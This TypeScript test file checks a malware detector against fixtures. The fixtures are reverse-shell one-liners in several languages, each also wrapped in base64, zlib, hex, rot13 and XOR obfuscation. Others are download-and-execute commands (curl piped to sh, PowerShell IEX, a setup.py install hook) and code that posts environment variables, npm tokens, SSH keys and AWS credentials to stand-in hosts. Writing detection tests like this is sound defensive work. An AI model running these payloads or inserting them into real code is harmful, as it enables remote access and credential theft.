import assert from 'node:assert/strict';
import { test } from 'node:test';
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import type { SourceLanguage } from './recognition.ts';
import { recognizeProgram } from './recognize-program.ts';

const SHELL = 'certain malware/reverse-shell-program';
const ENCODED = 'strong malware/encoded-program';
const FETCHED = 'strong malware/program-fetched-and-run';
const STOLEN = 'strong malware/environment-sent-away';

function found(text: string, language?: SourceLanguage): string[] {
  return recognizeProgram(text, language)
    .map(({ rule, weight }) => `${weight} ${rule}`)
    .sort();
}

const PYTHON =
  'import socket,subprocess,os;s=socket.socket();s.connect(("192.0.2.1",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])';
const NODE =
  'const c=require("net").connect(4444,"192.0.2.1",()=>{const s=require("child_process").spawn("/bin/sh");c.pipe(s.stdin);s.stdout.pipe(c)})';
const PERL =
  'use Socket;$i="192.0.2.1";$p=4444;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");';
const PHP = '$s=fsockopen("192.0.2.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");';
const RUBY = `require 'socket';f=TCPSocket.open("192.0.2.1",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)`;

const b64 = (text: string | Uint8Array): string => Buffer.from(text).toString('base64');
const hex = (text: string | Uint8Array): string => Buffer.from(text).toString('hex');
const rot13 = (text: string): string =>
  text.replace(/[a-z]/gi, (c) =>
    String.fromCharCode((c <= 'Z' ? 90 : 122) >= c.charCodeAt(0) + 13 ? c.charCodeAt(0) + 13 : c.charCodeAt(0) - 13),
  );
const reverse = (text: string): string => [...text].reverse().join('');
const xor = (text: string, key: string): Buffer =>
  Buffer.from(Buffer.from(text).map((byte, at) => byte ^ key.charCodeAt(at % key.length)));

const encoded: readonly (readonly [string, SourceLanguage, string])[] = [
  ['base64', 'python', `import base64;exec(base64.b64decode("${b64(PYTHON)}"))`],
  ['base64 by import', 'python', `exec(__import__('base64').b64decode(b'${b64(PYTHON)}').decode())`],
  ['zlib', 'python', `import zlib,base64\nexec(zlib.decompress(base64.b64decode("${b64(deflateSync(PYTHON))}")))`],
  [
    'reversed',
    'python',
    `exec((lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1])))(b'${reverse(b64(deflateSync(PYTHON)))}'))`,
  ],
  ['hex', 'python', `exec(bytes.fromhex('${hex(PYTHON)}').decode())`],
  [
    'rot13 and base64',
    'python',
    `import codecs,base64\nmagic='${rot13(b64(PYTHON))}'\ncode=base64.b64decode(codecs.decode(magic,'rot13'))\nexec(compile(code,'<s>','exec'))`,
  ],
  ['numbers', 'python', `exec(bytes([${[...Buffer.from(PYTHON)].join(',')}]).decode())`],
  ['characters', 'python', `exec("".join(chr(c) for c in [${[...Buffer.from(PYTHON)].join(', ')}]))`],
  [
    'by a name',
    'python',
    `import base64 as b\npayload = '''${b64(PYTHON).replace(/(.{60})/g, '$1\n')}'''\nrun = b.b64decode(payload)\nexec(run)`,
  ],
  [
    'exclusive or with a key',
    'python',
    `import base64\nkey='s3cret'\nd=base64.b64decode('${b64(xor(PYTHON, 's3cret'))}')\nexec(bytes(c ^ ord(key[i % len(key)]) for i,c in enumerate(d)))`,
  ],
  [
    'exclusive or with a number',
    'python',
    `d=bytes.fromhex('${hex(xor(PYTHON, 'Z'))}')\nexec(bytes(c ^ 0x5a for c in d).decode())`,
  ],
  [
    'marshal',
    'python',
    `import marshal,base64\nexec(marshal.loads(base64.b64decode('${b64(Buffer.concat([Buffer.from([0xe3, 0, 0, 0, 0, 0, 0, 0]), Buffer.from(PYTHON.replaceAll(';', '\0\x01'))]))}')))`,
  ],
  ['base64', 'node', `eval(Buffer.from('${b64(NODE)}','base64').toString())`],
  ['atob', 'node', `new Function(atob("${b64(NODE)}"))()`],
  ['hex', 'node', `eval(Buffer.from("${hex(NODE)}", "hex").toString("utf8"))`],
  ['character codes', 'node', `eval(String.fromCharCode(${[...Buffer.from(NODE)].join(',')}))`],
  [
    'percent',
    'node',
    `eval(unescape('${[...Buffer.from(NODE)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')}'))`,
  ],
  [
    'by a name',
    'node',
    `const x = Buffer.from('${b64(NODE)}', 'base64').toString();\nrequire('vm').runInThisContext(x);`,
  ],
  ['gzinflate', 'php', `<?php eval(gzinflate(base64_decode('${b64(deflateRawSync(PHP))}')));`],
  [
    'gzuncompress and strrev',
    'php',
    `<?php eval(gzuncompress(base64_decode(strrev('${reverse(b64(deflateSync(PHP)))}'))));`,
  ],
  ['str_rot13', 'php', `<?php eval(str_rot13(gzinflate(base64_decode('${b64(deflateRawSync(rot13(PHP)))}'))));`],
  ['pack', 'perl', `eval pack("H*","${hex(PERL)}");`],
  ['decode_base64', 'perl', `use MIME::Base64; eval(decode_base64('${b64(PERL)}'));`],
  ['Base64', 'ruby', `require 'base64'; eval(Base64.decode64("${b64(RUBY)}"))`],
  ['unpack', 'ruby', `eval("${b64(RUBY)}".unpack("m").first)`],
  ['pack', 'ruby', `eval(["${hex(RUBY)}"].pack("H*"))`],
];
for (const [name, language, text] of encoded) {
  test(`${language}: what is encoded by ${name} and run is read`, () =>
    assert.deepEqual(found(text, language), [SHELL, ENCODED].sort()));
}

test('four levels of encoding are undone, no more', () => {
  let text = PYTHON;
  for (let level = 1; level <= 4; level++) {
    text = `import base64;exec(base64.b64decode("${b64(text)}"))`;
    assert.deepEqual(found(text, 'python'), [SHELL, ENCODED].sort());
  }
  text = `import base64;exec(base64.b64decode("${b64(text)}"))`;
  assert.deepEqual(found(text, 'python'), [ENCODED]);
});

test('a program for another interpreter is read too', () => {
  const line = `python3 -c '${PYTHON}'`;
  const script = 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1';
  assert.ok(found(`import os,base64;os.system(base64.b64decode("${b64(script)}").decode())`, 'python').includes(SHELL));
  assert.ok(
    found(`require('child_process').execSync(Buffer.from('${b64(line)}','base64').toString())`, 'node').includes(SHELL),
  );
  assert.ok(found(`import os\nos.system("echo ${b64(script)} | base64 -d | bash")`, 'python').includes(SHELL));
  assert.ok(
    found(
      `powershell -nop -w hidden -enc ${Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')", 'utf16le').toString('base64')}`,
      'powershell',
    ).includes(FETCHED),
  );
});

const fetched: readonly (readonly [string, SourceLanguage, string])[] = [
  [
    'exec of urlopen',
    'python',
    `import urllib.request;exec(urllib.request.urlopen("http://192.0.2.1:8000/x.py").read())`,
  ],
  ['exec of requests', 'python', `import requests\nr = requests.get("https://c2.example/stage2")\nexec(r.text)`],
  [
    'named address',
    'python',
    `url = "http://c2.example/a"\nimport urllib.request as u\ncode = u.urlopen(url).read()\nexec(compile(code, "x", "exec"))`,
  ],
  ['curl to a shell', 'python', `import os\nos.system("curl -s http://192.0.2.1/x.sh | bash")`],
  [
    'list of arguments',
    'python',
    `import subprocess\nsubprocess.Popen(["/bin/sh", "-c", "wget -qO- http://c2.example/x | sh"])`,
  ],
  [
    'saved and run',
    'python',
    `from urllib.request import urlretrieve\nimport os\nurlretrieve("http://192.0.2.1/m", "/tmp/m")\nos.chmod("/tmp/m", 0o755)\nos.system("/tmp/m &")`.replace(
      '"/tmp/m &"',
      '"/tmp/m"',
    ),
  ],
  [
    'setup.py',
    'python',
    `from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        import os; os.system('curl -fsSL https://c2.example/i | sh')\n        install.run(self)\nsetup(name='x', cmdclass={'install': I})`,
  ],
  ['execSync', 'node', `require('child_process').execSync('curl http://192.0.2.1/x|sh')`],
  [
    'template',
    'node',
    'const u="http://c2.example/x"; require("child_process").exec(`wget -O - http://c2.example/x | bash`)',
  ],
  [
    'eval of an answer',
    'node',
    `const https=require('https');https.get('https://c2.example/p.js',(r)=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d));});`,
  ],
  ['fetch', 'node', `fetch('http://192.0.2.1/x').then(r=>r.text()).then(t=>eval(t))`],
  ['eval of a file', 'php', `<?php eval(file_get_contents('http://c2.example/x.txt'));`],
  ['include', 'php', `<?php include('http://192.0.2.1/x.txt');`],
  ['closing tag', 'php', `<?php $c = file_get_contents("https://c2.example/raw"); eval("?>".$c);`],
  [
    'shell_exec',
    'php',
    `<?php shell_exec('cd /tmp; wget http://192.0.2.1/a; chmod +x a; ./a');`.replace(
      'wget http://192.0.2.1/a; chmod +x a; ./a',
      'wget http://192.0.2.1/a -O /tmp/a; chmod +x /tmp/a; /tmp/a',
    ),
  ],
  ['eval get', 'perl', `use LWP::Simple; eval get("http://192.0.2.1/x.pl");`],
  ['backticks', 'perl', 'print `curl http://192.0.2.1/x | perl`;'],
  ['eval open', 'ruby', `require 'open-uri'; eval(URI.open("http://192.0.2.1/x.rb").read)`],
  ['system', 'ruby', `system("curl", "-s", "x"); system "wget -q -O- http://192.0.2.1/x | sh"`],
  ['load', 'lua', `local http = require("socket.http"); load(http.request("http://192.0.2.1/x.lua"))()`],
  ['os.execute', 'lua', `os.execute("curl -s http://192.0.2.1/x | sh")`],
  ['IEX', 'powershell', `IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')`],
  ['iwr', 'powershell', `iwr -useb http://c2.example/a.ps1 | iex`],
  ['exec', 'java', `Runtime.getRuntime().exec(new String[]{"/bin/sh","-c","curl http://192.0.2.1/x|sh"});`],
];
for (const [name, language, text] of fetched) {
  test(`${language}: ${name} fetches code and runs it`, () => assert.deepEqual(found(text, language), [FETCHED]));
}

const stolen: readonly (readonly [string, SourceLanguage, string])[] = [
  [
    'environment',
    'node',
    `const https=require('https');const d=JSON.stringify(process.env);const r=https.request({hostname:'c2.example',path:'/',method:'POST'});r.write(d);r.end();`,
  ],
  [
    'environment with more',
    'node',
    `const data = JSON.stringify({ host: os.hostname(), env: process.env }); fetch('https://c2.example/c', { method: 'POST', body: data });`,
  ],
  [
    'npm token',
    'node',
    `const t=fs.readFileSync(os.homedir()+'/.npmrc','utf8');axios.post('https://c2.example/t',{t})`,
  ],
  [
    'environment',
    'python',
    `import os,json,urllib.request\nurllib.request.urlopen("http://192.0.2.1/x", data=json.dumps(dict(os.environ)).encode())`,
  ],
  [
    'keys',
    'python',
    `import requests,os\nfor f in ["~/.ssh/id_rsa","~/.aws/credentials"]:\n    p=os.path.expanduser(f)\n    requests.post("https://c2.example/u", data=open(p).read())`,
  ],
];
for (const [name, language, text] of stolen) {
  test(`${language}: ${name} is sent away`, () => assert.deepEqual(found(text, language), [STOLEN]));
}

const honest: readonly (readonly [string, SourceLanguage, string])[] = [
  [
    'an embedded archive',
    'python',
    `import base64, zipfile\nDATA = b"""${b64(gzipSync('PK'.repeat(500)))}"""\nopen(tmp, "wb").write(base64.b85decode(DATA))\nexec(open("setup.py").read())`,
  ],
  [
    'embedded settings',
    'python',
    `import base64, json\nconfig = json.loads(base64.b64decode("${b64('{"mode":"production","level":3}')}"))`,
  ],
  [
    'an inline source map',
    'node',
    `function a(){}\n//# sourceMappingURL=data:application/json;base64,${b64('{"version":3,"sources":["a.js"],"mappings":"AAAA"}'.repeat(20))}`,
  ],
  [
    'a module in base64',
    'node',
    `const wasm = Buffer.from('${b64(Buffer.from(`\0asm${'\0\x01'.repeat(200)}`, 'latin1'))}', 'base64'); WebAssembly.compile(wasm);`,
  ],
  ['a known installer', 'python', `exec(urllib.request.urlopen("https://install.python-poetry.org").read())`],
  [
    'settings of a bundler',
    'node',
    `new DefinePlugin({ 'process.env': JSON.stringify(process.env) }); fetch('/api', { method: 'POST' })`,
  ],
  [
    'a client of its own service',
    'python',
    `creds = open(os.path.expanduser("~/.aws/credentials")).read()\nrequests.post("https://sts.amazonaws.com/", data=sign(creds))`,
  ],
  [
    'an answer is read',
    'node',
    `https.get('https://api.example/x', (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => JSON.parse(d)); });`,
  ],
];
for (const [name, language, text] of honest) {
  test(`${language}: ${name} is nothing`, () => assert.deepEqual(found(text, language), []));
}
